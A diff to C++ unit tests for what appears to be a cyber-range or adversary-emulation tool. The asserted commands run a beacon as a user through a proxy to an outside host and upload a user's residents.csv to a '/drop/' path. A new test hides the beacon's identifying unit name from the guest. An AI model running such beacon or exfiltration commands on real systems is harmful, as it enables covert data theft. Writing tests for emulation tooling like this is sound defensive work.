@@ -107,7 +107,9 @@ TEST_F(ActionsTest, AnotherFileThanTheOneSentIsAFailure) {
 TEST_F(ActionsTest, ABeaconRunsAsTheUserThroughTheProxy) {
     perform(context("beacon"));
     EXPECT_TRUE(ran("pc-suzuki: /usr/bin/systemd-run --quiet --collect --uid=suzuki "
-                    "--unit=enshu-beacon /usr/lib/enshu/actor beacon --url "
+                    "--unit=" +
+                    beacon_unit("beacon") +
+                    " /usr/lib/enshu/actor beacon --url "
                     "http://198.51.100.66/news/update --min-ms 4000 --max-ms 7000"));
     EXPECT_TRUE(ran("--proxy 203.0.113.25:3128"));
     EXPECT_EQ(range_.beacons(), 1U);
@@ -118,6 +120,14 @@ TEST_F(ActionsTest, ABeaconRunsAsTheUserThroughTheProxy) {
     undo(context("beacon"));
 }
 
+TEST_F(ActionsTest, AStepsIdStandsInNoWordThatAGuestIsGiven) {
+    perform(context("beacon"));
+    for (const std::string &line : range_.commands())
+        EXPECT_EQ(line.find("enshu-beacon"), std::string::npos) << line;
+    EXPECT_EQ(beacon_unit("beacon").size(), std::string("enshu-").size() + 8);
+    EXPECT_NE(beacon_unit("beacon"), beacon_unit("beacon-2"));
+}
+
 TEST_F(ActionsTest, AnUploadGoesToAPathDerivedFromItsStep) {
     const auto evidence = perform(context("exfil"));
     EXPECT_EQ(evidence["bytes"], 9);
@@ -125,7 +135,7 @@ TEST_F(ActionsTest, AnUploadGoesToAPathDerivedFromItsStep) {
                     "/usr/lib/enshu/actor upload --url "
                     "http://198.51.100.66" +
                     upload_path("exfil") +
-                    " --proxy 203.0.113.25:3128 --file "
+                    " --proxy 203.0.113.25:3128 --key - --file "
                     "/home/suzuki/Documents/residents.csv"));
     EXPECT_EQ(upload_path("exfil").size(), std::string("/drop/").size() + 8);
     EXPECT_NE(upload_path("exfil"), upload_path("exfil-2"));
